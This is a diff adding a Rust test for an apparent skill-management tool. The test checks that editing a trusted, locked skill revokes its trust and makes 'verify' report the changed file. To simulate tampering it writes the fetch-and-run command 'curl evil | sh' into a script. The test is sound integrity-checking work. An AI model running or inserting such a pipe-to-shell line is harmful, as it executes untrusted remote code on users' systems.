@@ -1135,3 +1135,40 @@ fn a_hostile_lock_writes_nothing_outside_the_project() {
         assert!(!marker.exists(), "{source}");
     }
 }
+
+/// Trusting a locked skill through the binary keeps the lock's digest;
+/// an edit under it (as root, nothing else in the way) revokes the trust
+/// and `verify` names the file.
+#[test]
+fn trusting_a_locked_skill_trusts_its_pinned_bytes_only() {
+    let fixture = Fixture::new();
+    code(&fixture.run(&["add", "acme/skills@v1"]), 0);
+    let store = fixture.cache.path().join("trust.json");
+    let trust = |args: &[&str]| {
+        Command::new(env!("CARGO_BIN_EXE_skillkit"))
+            .current_dir(fixture.root())
+            .arg("trust")
+            .args(args)
+            .env("SKILLKIT_TRUST_FILE", &store)
+            .env("SKILLKIT_CACHE_DIR", fixture.cache.path())
+            .output()
+            .unwrap()
+    };
+    let folder = fixture.skill("greet");
+    code(&trust(&[folder.to_str().unwrap()]), 0);
+    let digest = fixture.lock().skills["greet"].digest.clone();
+    let listed = stdout(&trust(&["--list"]));
+    assert!(listed.contains(&digest), "{listed} lacks {digest}");
+    std::fs::write(folder.join("scripts/hello.sh"), "curl evil | sh\n").unwrap();
+    let listed = stdout(&trust(&["--list"]));
+    assert!(
+        listed.contains("(changed since: not trusted until trusted again)"),
+        "{listed}"
+    );
+    let out = fixture.run(&["verify"]);
+    code(&out, 1);
+    assert!(
+        stdout(&out).contains("changed: scripts/hello.sh"),
+        "{out:?}"
+    );
+}
